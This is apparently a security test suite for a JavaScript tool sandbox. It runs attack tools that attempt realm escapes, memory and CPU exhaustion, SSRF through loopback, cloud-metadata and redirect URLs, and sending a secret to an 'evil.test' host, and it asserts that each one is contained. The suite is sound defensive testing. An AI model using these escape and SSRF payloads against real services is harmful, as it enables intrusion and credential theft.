import assert from 'node:assert/strict';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { connect, ElixirError, GrpcCode } from '@elixirchain/runtime';
import { ToolSandboxServiceDefinition, type InvokeToolResponse } from '@elixirchain/proto/sandbox';
import { startToolSandboxServer, type ToolSandboxServer } from '@elixirchain/tool-sandbox';
import { toolFixture, type FixtureOptions } from '../../services/tool-sandbox/test/fixtures/tool-fixture.js';
import { checkHealth } from '../../cli/src/launcher/health-probe.js';

/**
 * Attack tools run through the real service over gRPC. Each one asserts
 * its own containment; every outcome is also checked for the invariants
 * that hold for any call (no host paths, no secret values, never UNKNOWN).
 */

const SECRET = 'sk-live-7f3a9c1e2b4d6f80';
const OTHER_SECRET = 'other-secret-0c9d8e7f';

interface Outcome {
  events: InvokeToolResponse[];
  error?: ElixirError;
  output?: unknown;
  logs: string[];
  ms: number;
  registerError?: ElixirError;
}

interface Attack {
  name: string;
  source: string;
  options?: FixtureOptions;
  input?: Record<string, unknown>;
  grant?: boolean;
  /** Runs alone after the concurrent batch (it measures or depends on timing). */
  alone?: boolean;
  expect: (o: Outcome, env: { port: number }) => void;
}

const expectCode = (...codes: GrpcCode[]) => (o: Outcome) => {
  assert.ok(o.error, `expected a failure with ${codes.map((c) => GrpcCode[c]).join('/')}, got output ${JSON.stringify(o.output)}`);
  assert.ok(codes.includes(o.error.code), `expected ${codes.map((c) => GrpcCode[c]).join('/')}, got ${o.error.codeName}: ${o.error.message}`);
};
const expectOutput = (check: (output: any) => void) => (o: Outcome) => {
  assert.equal(o.error, undefined, `expected an output, got ${o.error?.codeName}: ${o.error?.message}`);
  check(o.output);
};
/** The tool reports, per URL, the code of the error ctx.fetch threw (or "OK"). */
const fetchProbe = (urls: string[]) => `export default async (i, ctx) => {
  const out = {};
  for (const url of ${JSON.stringify(urls)}) {
    const u = url.replaceAll('PORT', String(i.port));
    try { const r = await ctx.fetch(u); out[url] = 'OK ' + r.status; } catch (e) { out[url] = e.code || String(e); }
  }
  return out;
};`;
const allDenied = (o: Outcome) =>
  expectOutput((out: Record<string, string>) => {
    for (const [url, result] of Object.entries(out)) assert.equal(result, 'PERMISSION_DENIED', `${url} -> ${result}`);
  })(o);

const ATTACKS: Attack[] = [
  // --- realm escapes ---------------------------------------------------------
  {
    name: 'constructor chain from a plain object reaches only the isolate Function',
    source: 'export default () => { const F = ({}).constructor.constructor; return { process: F("return typeof process")(), require: F("return typeof require")(), global: F("return typeof global")() }; };',
    expect: expectOutput((o) => assert.deepEqual(o, { process: 'undefined', require: 'undefined', global: 'undefined' })),
  },
  {
    name: 'constructor chain from a ctx function stays in the isolate realm',
    source: 'export default (i, ctx) => { const F = ctx.log.constructor; const g = F("return globalThis")(); return { process: typeof g.process, sameRealm: g === globalThis }; };',
    expect: expectOutput((o) => assert.deepEqual(o, { process: 'undefined', sameRealm: true })),
  },
  {
    name: 'async and generator Function constructors find no host',
    source: 'export default async () => { const AF = (async () => {}).constructor; const GF = (function* () {}).constructor; return [await AF("return typeof process")(), GF("yield typeof require")().next().value]; };',
    expect: expectOutput((o) => assert.deepEqual(o, ['undefined', 'undefined'])),
  },
  {
    name: 'Error.prepareStackTrace sees only isolate frames',
    source: `export default async (i, ctx) => {
      Error.prepareStackTrace = (e, frames) => frames.map((f) => String(f.getFileName()) + ' ' + typeof f.getThis());
      const stacks = [];
      try { await ctx.fetch('file:///etc/passwd'); } catch (e) { stacks.push(e.stack); }
      try { ctx.secrets.get('NOPE'); } catch (e) { stacks.push(e.stack); }
      try { null.x; } catch (e) { stacks.push(e.stack); }
      return stacks;
    };`,
    expect: expectOutput((o: unknown[]) => assert.equal(o.length, 3)),
  },
  {
    name: 'errors thrown at the tool by ctx carry no host stack',
    source: 'export default async (i, ctx) => { const out = []; for (const u of ["ftp://x.test/", "http://127.0.0.1/"]) { try { await ctx.fetch(u); } catch (e) { out.push(String(e.stack)); } } return out; };',
    expect: expectOutput((o: string[]) => {
      assert.equal(o.length, 2);
      for (const s of o) assert.doesNotMatch(s, /node:|node_modules|\.ts:|\/work\/|isolated-vm/);
    }),
  },
  {
    name: 'the global scope holds no Node, no WebAssembly, no bridge',
    source: 'export default () => Object.getOwnPropertyNames(globalThis).concat(Object.getOwnPropertySymbols(globalThis).map(String));',
    expect: expectOutput((names: string[]) => {
      for (const forbidden of ['process', 'require', 'module', 'Buffer', 'WebAssembly', 'SharedArrayBuffer', 'Atomics', 'fetch', 'setInterval', '_ivm', 'ivm']) {
        assert.ok(!names.includes(forbidden), `${forbidden} is reachable`);
      }
      assert.ok(!names.some((n) => n.startsWith('__')), names.filter((n) => n.startsWith('__')).join(','));
    }),
  },
  {
    name: 'dynamic import of a node: module fails',
    source: 'export default async () => { try { const m = await import("node:child_process"); return typeof m.exec; } catch (e) { return "refused"; } };',
    expect: expectOutput((o) => assert.equal(o, 'refused')),
  },
  {
    name: 'eval and indirect eval see no host',
    source: 'export default () => [eval("typeof process"), (0, eval)("typeof require"), new Function("return typeof Buffer")()];',
    expect: expectOutput((o) => assert.deepEqual(o, ['undefined', 'undefined', 'undefined'])),
  },
  {
    name: 'ctx is frozen and its functions expose no caller',
    source: `export default (i, ctx) => {
      const r = { frozen: Object.isFrozen(ctx) && Object.isFrozen(ctx.secrets) };
      try { ctx.callId = 'someone-else'; r.assigned = true; } catch { r.assigned = false; }
      try { r.caller = typeof ctx.log.caller; } catch { r.caller = 'throws'; }
      r.callId = ctx.callId;
      return r;
    };`,
    input: {},
    expect: expectOutput((o) => {
      assert.equal(o.frozen, true);
      assert.equal(o.assigned, false);
      assert.equal(o.caller, 'throws');
      assert.equal(o.callId, 'attack-call');
    }),
  },
  {
    name: 'tampering with JSON and Promise intrinsics cannot change what crosses the bridge',
    source: `export default () => {
      JSON.stringify = () => 'x'.repeat(5e6);
      JSON.parse = () => ({ forged: true });
      Promise.prototype.then = function () { throw new Error('hijacked'); };
      String.prototype.slice = () => 'forged';
      return { honest: true };
    };`,
    expect: expectOutput((o) => assert.deepEqual(o, { honest: true })),
  },
  {
    name: 'a Proxy as output with throwing traps fails the call cleanly',
    source: 'export default () => new Proxy({}, { ownKeys() { throw new Error("trap"); }, get() { throw new Error("trap"); } });',
    expect: expectCode(GrpcCode.INTERNAL),
  },
  {
    name: 'a toJSON trap on the output runs inside the isolate only',
    source: 'export default () => ({ toJSON() { return { shape: "replaced", host: typeof process }; } });',
    expect: expectOutput((o) => assert.deepEqual(o, { shape: 'replaced', host: 'undefined' })),
  },
  {
    name: 'a looping getter on a ctx.log argument is stopped by the watchdog',
    source: 'export default (i, ctx) => { ctx.log("info", { get message() { for (;;) {} }, toJSON() { for (;;) {} } }); return 1; };',
    options: { timeoutMs: 500 },
    expect: expectCode(GrpcCode.DEADLINE_EXCEEDED),
  },
  {
    name: 'an error whose message getter loops is stopped by the watchdog',
    source: 'export default () => { throw { get message() { for (;;) {} }, get name() { for (;;) {} } }; };',
    options: { timeoutMs: 500 },
    expect: expectCode(GrpcCode.DEADLINE_EXCEEDED),
  },

  // --- exhaustion -----------------------------------------------------------
  {
    name: 'a synchronous infinite loop ends with DEADLINE_EXCEEDED',
    source: 'export default () => { for (;;) {} };',
    options: { timeoutMs: 400 },
    expect: expectCode(GrpcCode.DEADLINE_EXCEEDED),
  },
  {
    name: 'an asynchronous infinite loop ends with DEADLINE_EXCEEDED',
    source: 'export default async () => { for (;;) { await null; } };',
    options: { timeoutMs: 400 },
    expect: expectCode(GrpcCode.DEADLINE_EXCEEDED),
  },
  {
    name: 'a loop resumed after a host reply is still bounded',
    source: 'export default async () => { await new Promise((r) => setTimeout(r, 10)); for (;;) {} };',
    options: { timeoutMs: 400 },
    expect: expectCode(GrpcCode.DEADLINE_EXCEEDED),
  },
  {
    name: 'a promise that never settles ends with DEADLINE_EXCEEDED',
    source: 'export default () => new Promise(() => {});',
    options: { timeoutMs: 300 },
    expect: expectCode(GrpcCode.DEADLINE_EXCEEDED),
  },
  {
    name: 'CPU time is limited separately from wall time',
    source: 'export default async () => { for (let i = 0; ; i++) { const t = Date.now(); while (Date.now() - t < 20) {} await new Promise((r) => setTimeout(r, 1)); } };',
    options: { timeoutMs: 5000, cpuTimeMs: 200 },
    expect: (o) => {
      expectCode(GrpcCode.DEADLINE_EXCEEDED)(o);
      assert.equal(o.error!.reason, 'CPU_TIME_LIMIT');
    },
  },
  {
    name: 'a heap bomb hits the memory limit, not the host',
    source: 'export default () => { const a = []; for (;;) a.push(new Array(1e5).fill(Math.random())); };',
    options: { memoryMb: 16, timeoutMs: 3000 },
    expect: (o) => {
      expectCode(GrpcCode.RESOURCE_EXHAUSTED)(o);
      assert.equal(o.error!.reason, 'MEMORY_LIMIT');
    },
  },
  {
    name: 'a string-doubling bomb is contained',
    source: 'export default () => { let s = "xy"; for (;;) s = s + s; };',
    options: { memoryMb: 16 },
    expect: expectCode(GrpcCode.INTERNAL, GrpcCode.RESOURCE_EXHAUSTED),
  },
  {
    name: 'unbounded recursion is a tool error',
    source: 'export default () => { const f = (n) => f(n + 1) + 1; return f(0); };',
    expect: expectCode(GrpcCode.INTERNAL),
  },
  {
    name: 'catastrophic regex backtracking inside the isolate is interrupted',
    source: 'export default () => /^(a+)+$/.test("a".repeat(40) + "b");',
    options: { timeoutMs: 500 },
    expect: expectCode(GrpcCode.DEADLINE_EXCEEDED),
  },
  {
    name: 'a catastrophic schema pattern does not block the host',
    source: 'export default (i) => i.s.length;',
    options: { inputSchema: { type: 'object', properties: { s: { type: 'string', pattern: '^(a+)+$' } } } },
    input: { s: `${'a'.repeat(50)}b` },
    alone: true,
    expect: (o) => {
      expectCode(GrpcCode.INVALID_ARGUMENT)(o);
      assert.equal(o.error!.fieldViolations[0]?.field, '/s');
      assert.ok(o.ms < 2000, `took ${o.ms} ms`);
    },
  },
  {
    name: 'output larger than max_output_bytes is refused',
    source: 'export default () => "x".repeat(200000);',
    options: { maxOutputBytes: 10000 },
    expect: (o) => {
      expectCode(GrpcCode.RESOURCE_EXHAUSTED)(o);
      assert.equal(o.error!.reason, 'OUTPUT_TOO_LARGE');
    },
  },
  {
    name: 'a flood of log events stops at max_events',
    source: 'export default (i, ctx) => { for (let n = 0; n < 100000; n++) ctx.log("info", "spam " + n); return "done"; };',
    options: { maxEvents: 50 },
    expect: (o) => {
      expectCode(GrpcCode.RESOURCE_EXHAUSTED)(o);
      assert.ok(o.logs.length <= 50, `${o.logs.length} log events reached the stream`);
    },
  },
  {
    name: 'a flood of timers is refused',
    source: 'export default () => { for (let n = 0; n < 10000; n++) setTimeout(() => {}, 100000); return "scheduled"; };',
    expect: expectCode(GrpcCode.RESOURCE_EXHAUSTED),
  },
  {
    name: 'a huge error message is truncated',
    source: 'export default () => { throw new Error("E".repeat(1 << 24)); };',
    options: { memoryMb: 64 },
    expect: (o) => {
      expectCode(GrpcCode.INTERNAL)(o);
      assert.ok(o.error!.message.length < 10_000, `message of ${o.error!.message.length} chars`);
    },
  },
  {
    name: 'Atomics.wait is not available to block the isolate thread',
    source: 'export default () => { Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0); return "waited"; };',
    expect: expectCode(GrpcCode.INTERNAL),
  },
  {
    name: 'WebAssembly memory (not counted by the heap limit) is unavailable',
    source: 'export default () => new WebAssembly.Memory({ initial: 16384 }).buffer.byteLength;',
    expect: expectCode(GrpcCode.INTERNAL),
  },

  // --- bridge misuse ---------------------------------------------------------
  {
    name: 'a non-JSON argument to ctx.partial is refused inside the isolate',
    source: 'export default (i, ctx) => { ctx.partial({ big: 10n }); return 1; };',
    expect: (o) => {
      expectCode(GrpcCode.INTERNAL)(o);
      assert.match(o.error!.message, /JSON/);
    },
  },
  {
    name: 'a cyclic argument to ctx.partial is refused',
    source: 'export default (i, ctx) => { const a = {}; a.self = a; ctx.partial(a); return 1; };',
    expect: expectCode(GrpcCode.INTERNAL),
  },
  {
    name: 'an oversized argument to ctx.partial is refused before it crosses',
    source: 'export default (i, ctx) => { ctx.partial("x".repeat(2_000_000)); return 1; };',
    expect: expectCode(GrpcCode.RESOURCE_EXHAUSTED),
  },
  {
    name: 'an oversized fetch body is refused before it crosses',
    source: 'export default async (i, ctx) => { await ctx.fetch("http://allowed.test:" + i.port + "/echo", { method: "POST", body: "x".repeat(3_000_000) }); return 1; };',
    options: { networkHosts: ['allowed.test'] },
    grant: true,
    expect: expectCode(GrpcCode.RESOURCE_EXHAUSTED),
  },
  {
    name: 'ctx calls after the call ended reach nobody',
    source: 'export default (i, ctx) => { setTimeout(() => ctx.log("info", "late"), 30); Promise.resolve().then(() => ctx.log("info", "microtask")); return "returned"; };',
    expect: (o) => {
      expectOutput((out) => assert.equal(out, 'returned'))(o);
      assert.ok(!o.logs.includes('late'), 'a log arrived after the result');
      assert.equal(o.events.at(-1)?.event?.$case, 'result');
    },
  },
  {
    name: 'an ungranted secret is refused with PERMISSION_DENIED',
    source: 'export default (i, ctx) => ctx.secrets.get("OTHER_SECRET");',
    options: { secrets: ['SECRET_TOKEN'] },
    grant: true,
    expect: expectCode(GrpcCode.PERMISSION_DENIED),
  },
  {
    name: 'a secret named in the manifest but not granted stays out of reach',
    source: 'export default (i, ctx) => ctx.secrets.get("OTHER_SECRET");',
    options: { secrets: ['OTHER_SECRET'] },
    expect: expectCode(GrpcCode.FAILED_PRECONDITION),
  },
  {
    name: 'spoofed call ids in the input do not change ctx.callId',
    source: 'export default (i, ctx) => ({ callId: ctx.callId, attempt: ctx.attempt });',
    input: { callId: 'victim', attempt: 99 },
    expect: expectOutput((o) => assert.deepEqual(o, { callId: 'attack-call', attempt: 1 })),
  },
  {
    name: 'prototype pollution does not survive into the next call',
    source: 'export default (i) => { if (i.pollute) { Object.prototype.polluted = "yes"; Array.prototype.map = null; return "polluted"; } return { polluted: ({}).polluted ?? null, map: typeof [].map }; };',
    input: { pollute: true },
    alone: true,
    expect: expectOutput((o) => assert.equal(o, 'polluted')),
  },

  // --- network ----------------------------------------------------------------
  {
    name: 'an ungranted host is refused',
    source: fetchProbe(['http://evil.test:PORT/', 'http://allowed.test.evil.test:PORT/']),
    options: { networkHosts: ['allowed.test'] },
    grant: true,
    expect: allDenied,
  },
  {
    name: 'loopback in every IPv4 notation is refused',
    source: fetchProbe(['http://127.0.0.1:PORT/', 'http://2130706433:PORT/', 'http://0177.0.0.1:PORT/', 'http://0x7f000001:PORT/', 'http://0x7f.0.0.1:PORT/', 'http://127.1:PORT/', 'http://127.0.1:PORT/', 'http://0:PORT/', 'http://0.0.0.0:PORT/']),
    options: { networkHosts: ['*'] },
    grant: true,
    expect: allDenied,
  },
  {
    name: 'IPv6 loopback, mapped, unspecified and metadata literals are refused',
    source: fetchProbe(['http://[::1]:PORT/', 'http://[::ffff:127.0.0.1]:PORT/', 'http://[::ffff:7f00:1]:PORT/', 'http://[::]:PORT/', 'http://[fd00:ec2::254]/', 'http://[0:0:0:0:0:0:0:1]:PORT/']),
    options: { networkHosts: ['*'] },
    grant: true,
    expect: allDenied,
  },
  {
    name: 'metadata, private and link-local literals are refused',
    source: fetchProbe(['http://169.254.169.254/latest/meta-data/', 'http://10.0.0.1/', 'http://192.168.1.1/', 'http://172.16.0.1/', 'http://100.64.0.1/', 'http://169.254.1.1/']),
    options: { networkHosts: ['*'] },
    grant: true,
    expect: allDenied,
  },
  {
    name: 'granted names resolving to private, loopback, metadata, CGNAT or ULA addresses are refused',
    source: fetchProbe(['http://private.test/', 'http://loop2.test/', 'http://meta.test/', 'http://cgnat.test/', 'http://ula.test/', 'http://loop6.test/', 'http://mapped.test/', 'http://mixed.test/', 'http://zero.test/']),
    options: { networkHosts: ['*.test'] },
    grant: true,
    expect: allDenied,
  },
  {
    name: 'redirects to private hosts, literals, other schemes or ungranted hosts are refused',
    source: fetchProbe([
      'http://allowed.test:PORT/redirect?to=http://meta.test/',
      'http://allowed.test:PORT/redirect?to=http://127.0.0.1:PORT/canary',
      'http://allowed.test:PORT/redirect?to=http://[::1]:PORT/canary',
      'http://allowed.test:PORT/redirect?to=file:///etc/passwd',
      'http://allowed.test:PORT/redirect?to=http://evil.test:PORT/canary',
      'http://allowed.test:PORT/redirect?to=http://user:pw@allowed.test:PORT/canary',
    ]),
    options: { networkHosts: ['allowed.test'] },
    grant: true,
    expect: allDenied,
  },
  {
    name: 'userinfo tricks are refused',
    source: fetchProbe(['http://allowed.test@evil.test:PORT/', 'http://user:pass@allowed.test:PORT/canary', 'http://allowed.test:PORT@evil.test/', 'http://%61llowed.test@evil.test:PORT/']),
    options: { networkHosts: ['allowed.test'] },
    grant: true,
    expect: allDenied,
  },
  {
    name: 'non-http schemes are refused',
    source: fetchProbe(['file:///etc/passwd', 'ftp://allowed.test/', 'data:text/plain,hello', 'javascript:alert(1)', 'ws://allowed.test:PORT/', 'gopher://allowed.test/']),
    options: { networkHosts: ['allowed.test'] },
    grant: true,
    expect: allDenied,
  },
  {
    name: 'a caller narrowing the grant removes hosts for that call',
    source: fetchProbe(['http://allowed.test:PORT/ok']),
    options: { networkHosts: ['allowed.test'] },
    grant: true,
    input: { narrow: true },
    expect: allDenied,
  },
  {
    name: 'response bodies are capped',
    source: 'export default async (i, ctx) => { const r = await ctx.fetch("http://allowed.test:" + i.port + "/big"); return (await r.text()).length; };',
    options: { networkHosts: ['allowed.test'] },
    grant: true,
    expect: expectCode(GrpcCode.RESOURCE_EXHAUSTED),
  },
  {
    name: 'a granted host works (positive control, pinned to the checked address)',
    source: 'export default async (i, ctx) => { const r = await ctx.fetch("http://allowed.test:" + i.port + "/ok", { headers: { host: "evil.test", "x-probe": "1" } }); return { status: r.status, body: await r.json() }; };',
    options: { networkHosts: ['allowed.test'] },
    grant: true,
    expect: expectOutput((o) => {
      assert.equal(o.status, 200);
      assert.equal(o.body.host, `allowed.test:${o.body.port}`);
    }),
  },

  // --- secret redaction ----------------------------------------------------------
  {
    name: 'a secret in the output fails the call with PERMISSION_DENIED naming it',
    source: 'export default (i, ctx) => ({ nested: [{ key: "prefix-" + ctx.secrets.get("SECRET_TOKEN") }] });',
    options: { secrets: ['SECRET_TOKEN'] },
    grant: true,
    expect: (o) => {
      expectCode(GrpcCode.PERMISSION_DENIED)(o);
      assert.match(o.error!.message, /SECRET_TOKEN/);
    },
  },
  {
    name: 'a secret as an output key is caught too',
    source: 'export default (i, ctx) => ({ [ctx.secrets.get("SECRET_TOKEN")]: 1 });',
    options: { secrets: ['SECRET_TOKEN'] },
    grant: true,
    expect: expectCode(GrpcCode.PERMISSION_DENIED),
  },
  {
    name: 'secrets are redacted from logs, progress and partials',
    source: 'export default (i, ctx) => { const s = ctx.secrets.get("SECRET_TOKEN"); ctx.log("warn", "key=" + s); console.log("console", s); ctx.progress(0.5, s); ctx.partial({ s }); return "ok"; };',
    options: { secrets: ['SECRET_TOKEN'] },
    grant: true,
    expect: (o) => {
      expectOutput((out) => assert.equal(out, 'ok'))(o);
      assert.ok(o.logs.some((l) => l.includes('[REDACTED:SECRET_TOKEN]')), o.logs.join('|'));
    },
  },
  {
    name: 'secrets are redacted from error messages',
    source: 'export default (i, ctx) => { throw new Error("failed with " + ctx.secrets.get("SECRET_TOKEN")); };',
    options: { secrets: ['SECRET_TOKEN'] },
    grant: true,
    expect: (o) => {
      expectCode(GrpcCode.INTERNAL)(o);
      assert.match(o.error!.message, /\[REDACTED:SECRET_TOKEN\]/);
    },
  },
  {
    name: 'secrets sent to an ungranted host never leave',
    source: 'export default async (i, ctx) => { try { await ctx.fetch("http://evil.test:" + i.port + "/canary?k=" + ctx.secrets.get("SECRET_TOKEN")); } catch (e) { return e.code + " " + e.message; } };',
    options: { secrets: ['SECRET_TOKEN'], networkHosts: ['allowed.test'] },
    grant: true,
    expect: expectOutput((o: string) => assert.match(o, /^PERMISSION_DENIED/)),
  },
];

describe('tool sandbox security: attack tools through the real service', function () {
  this.timeout(120_000);
  let service: ToolSandboxServer;
  let client: ReturnType<typeof connect<typeof ToolSandboxServiceDefinition>>;
  let canary: http.Server;
  let port = 0;
  const canaryHits: string[] = [];
  const outcomes = new Map<string, Outcome>();
  const toolNames = new Map<string, string>();

  async function invoke(name: string, input: Record<string, unknown>, extra: Partial<{ grants: { networkHosts: string[]; secrets: string[] } }> = {}): Promise<Outcome> {
    const started = performance.now();
    const events: InvokeToolResponse[] = [];
    let error: ElixirError | undefined;
    try {
      for await (const e of client.invokeTool({ name, input, callId: 'attack-call', ...extra })) events.push(e);
    } catch (e) {
      error = e as ElixirError;
    }
    const last = events.at(-1)?.event;
    const logs = events.flatMap((e) => (e.event?.$case === 'log' ? [e.event.log.message] : e.event?.$case === 'progress' ? [e.event.progress.message] : e.event?.$case === 'partial' ? [JSON.stringify(e.event.partial.data)] : []));
    return { events, error, output: last?.$case === 'result' ? last.result.output : undefined, logs, ms: performance.now() - started };
  }

  before(async () => {
    canary = http.createServer((req, res) => {
      canaryHits.push(`${req.headers.host} ${req.url}`);
      const url = new URL(req.url ?? '/', 'http://x');
      if (url.pathname === '/redirect') {
        res.writeHead(302, { location: url.searchParams.get('to') ?? '/' });
        res.end();
      } else if (url.pathname === '/big') {
        res.writeHead(200);
        res.end(Buffer.alloc(8 * 1024 * 1024, 0x61));
      } else {
        req.resume();
        res.writeHead(200, { 'content-type': 'application/json' });
        res.end(JSON.stringify({ host: req.headers.host, port, path: url.pathname }));
      }
    });
    await new Promise<void>((resolve) => canary.listen(0, '127.0.0.1', resolve));
    port = (canary.address() as AddressInfo).port;
    const names: Record<string, Array<{ address: string; family: 4 | 6 }>> = {
      'allowed.test': [{ address: '127.0.0.1', family: 4 }],
      'evil.test': [{ address: '127.0.0.1', family: 4 }],
      'private.test': [{ address: '10.1.2.3', family: 4 }],
      'loop2.test': [{ address: '127.0.0.2', family: 4 }],
      'meta.test': [{ address: '169.254.169.254', family: 4 }],
      'cgnat.test': [{ address: '100.64.1.1', family: 4 }],
      'ula.test': [{ address: 'fd00:ec2::254', family: 6 }],
      'loop6.test': [{ address: '::1', family: 6 }],
      'mapped.test': [{ address: '::ffff:127.0.0.1', family: 6 }],
      'mixed.test': [{ address: '93.184.216.34', family: 4 }, { address: '10.0.0.1', family: 4 }],
      'zero.test': [{ address: '0.0.0.0', family: 4 }],
    };
    service = await startToolSandboxServer({
      address: '127.0.0.1:0',
      pool: { workers: 2, maxCallsPerWorker: 8, maxQueue: 256, workerHeapMb: 256 },
      secrets: { SECRET_TOKEN: SECRET, OTHER_SECRET },
      // No real DNS and no traffic off the machine: names resolve here, and only 127.0.0.1 (the canary) is reachable.
      resolver: async (host) => {
        const found = names[host];
        if (!found) throw new Error('NXDOMAIN');
        return found;
      },
      allowedPrivateAddresses: ['127.0.0.1'],
    });
    client = connect(ToolSandboxServiceDefinition, service.address);

    // Register every attack tool, then run them concurrently (timing-sensitive ones alone).
    await Promise.all(
      ATTACKS.map(async (attack, i) => {
        const name = `attack-${i}`;
        toolNames.set(attack.name, name);
        const { manifest, bundle } = toolFixture(name, attack.source, { timeoutMs: 2000, ...attack.options });
        await client.registerTool({ manifest, bundle, grantPermissions: attack.grant === true });
      }),
    );
    const run = async (attack: Attack) => {
      const name = toolNames.get(attack.name)!;
      const narrow = attack.input?.narrow ? { grants: { networkHosts: ['other.test'], secrets: [] } } : {};
      outcomes.set(attack.name, await invoke(name, { port, ...attack.input }, narrow));
    };
    await Promise.all(ATTACKS.filter((a) => !a.alone).map(run));
    for (const attack of ATTACKS.filter((a) => a.alone)) await run(attack);
  });

  after(async () => {
    client?.close();
    await service?.stop();
    canary?.close();
  });

  it(`has at least 40 attack tools (${ATTACKS.length})`, () => {
    assert.ok(ATTACKS.length >= 40);
  });

  for (const attack of ATTACKS) {
    it(attack.name, () => {
      const outcome = outcomes.get(attack.name);
      assert.ok(outcome, 'the attack did not run');
      attack.expect(outcome, { port });
      // Invariants of every call, whatever the attack.
      const everything = JSON.stringify({ events: outcome.events, error: outcome.error && { message: outcome.error.message, metadata: outcome.error.metadata } });
      assert.ok(!everything.includes(SECRET) && !everything.includes(OTHER_SECRET), 'a secret value reached the client');
      assert.doesNotMatch(everything, /node_modules|node:internal|\/work\/main|services\/tool-sandbox/, 'a host path reached the client');
      if (outcome.error) assert.notEqual(outcome.error.code, GrpcCode.UNKNOWN);
    });
  }

  it('lets prototype pollution die with its context', async () => {
    const outcome = await invoke(toolNames.get('prototype pollution does not survive into the next call')!, {});
    assert.deepEqual(outcome.output, { polluted: null, map: 'function' });
  });

  it('refuses bundles that import anything, at registration', async () => {
    for (const source of ['import { exec } from "node:child_process"; export default () => exec;', 'import x from "./other.js"; export default () => x;', 'export * from "fs";']) {
      const { manifest, bundle } = toolFixture('importer', source);
      await assert.rejects(client.registerTool({ manifest, bundle }), (e: ElixirError) => e.code === GrpcCode.INVALID_ARGUMENT && e.reason === 'BUNDLE_IMPORTS');
    }
  });

  it('refuses bundles that loop, exhaust memory or throw huge errors while loading', async () => {
    const cases = [
      'for (;;) {} export default () => 1;',
      'const a = []; for (;;) a.push(new Array(1e5).fill(1)); export default () => 1;',
      'throw "\\u1234".repeat(1 << 27); export default () => 1;',
      'export default 42;',
    ];
    await Promise.all(
      cases.map(async (source, i) => {
        const { manifest, bundle } = toolFixture(`loader-${i}`, source, { memoryMb: 16, timeoutMs: 1000 });
        await assert.rejects(client.registerTool({ manifest, bundle }), (e: ElixirError) => {
          assert.equal(e.code, GrpcCode.INVALID_ARGUMENT, `${source}: ${e.codeName} ${e.message.slice(0, 200)}`);
          assert.ok(e.message.length < 10_000);
          return true;
        });
      }),
    );
  });

  it('sent no request to the canary that a grant did not allow', () => {
    for (const hit of canaryHits) {
      assert.match(hit, /^allowed\.test:\d+ \/(ok|big|redirect|echo)/, `unexpected request reached the canary: ${hit}`);
    }
    assert.ok(canaryHits.some((h) => h.includes('/ok')), 'the positive control did not reach the canary');
  });

  it('replaces a worker whose isolate hit its memory limit while calls on the other worker complete', async () => {
    const slow = toolFixture('slow-neighbour', 'export default async () => { await new Promise((r) => setTimeout(r, 600)); return "finished"; };');
    const bomb = toolFixture('memory-bomb', 'export default () => { const a = []; for (;;) a.push(new Array(1e5).fill(Math.random())); };', { memoryMb: 16 });
    await client.registerTool(slow);
    await client.registerTool(bomb);
    const pidsBefore = service.sandbox.workers().map((w) => w.pid);
    const neighbours = Array.from({ length: 6 }, () => invoke('slow-neighbour', {}));
    await new Promise((r) => setTimeout(r, 50));
    const bombed = await invoke('memory-bomb', {});
    assert.equal(bombed.error?.code, GrpcCode.RESOURCE_EXHAUSTED);
    for (const n of await Promise.all(neighbours)) assert.equal(n.output, 'finished', n.error?.message);
    await waitFor(() => {
      const now = service.sandbox.workers();
      return now.length === 2 && now.every((w) => w.state === 'ready') && now.some((w) => !pidsBefore.includes(w.pid));
    }, 'the bombed worker was not replaced');
  });

  it('fails only the calls of a worker that is killed, and replaces it', async () => {
    const slow = toolFixture('victim', 'export default async () => { await new Promise((r) => setTimeout(r, 1500)); return "survived"; };', { timeoutMs: 5000 });
    await client.registerTool(slow);
    const calls = Array.from({ length: 8 }, () => invoke('victim', {}));
    await waitFor(() => service.sandbox.workers().every((w) => w.load > 0), 'calls did not spread over both workers');
    const [doomed] = service.sandbox.workers();
    process.kill(doomed!.pid!, 'SIGKILL');
    const results = await Promise.all(calls);
    const failed = results.filter((r) => r.error);
    const survived = results.filter((r) => r.output === 'survived');
    assert.ok(failed.length > 0 && survived.length > 0, `failed ${failed.length}, survived ${survived.length}`);
    for (const f of failed) assert.equal(f.error!.code, GrpcCode.UNAVAILABLE);
    await waitFor(() => service.sandbox.workers().length === 2 && service.sandbox.workers().every((w) => w.state === 'ready'), 'the killed worker was not replaced');
  });

  it('is still healthy and serving after the suite', async () => {
    assert.equal((await checkHealth(service.address)).status, 'SERVING');
    const { manifest, bundle } = toolFixture('after-suite', 'export default (i) => i.n + 1;');
    await client.registerTool({ manifest, bundle });
    const results = await Promise.all(Array.from({ length: 20 }, (_, n) => invoke('after-suite', { n })));
    results.forEach((r, n) => assert.equal(r.output, n + 1));
  });
});

async function waitFor(check: () => boolean, message: string, timeoutMs = 20_000): Promise<void> {
  const until = Date.now() + timeoutMs;
  while (!check()) {
    if (Date.now() > until) assert.fail(message);
    await new Promise((r) => setTimeout(r, 50));
  }
}
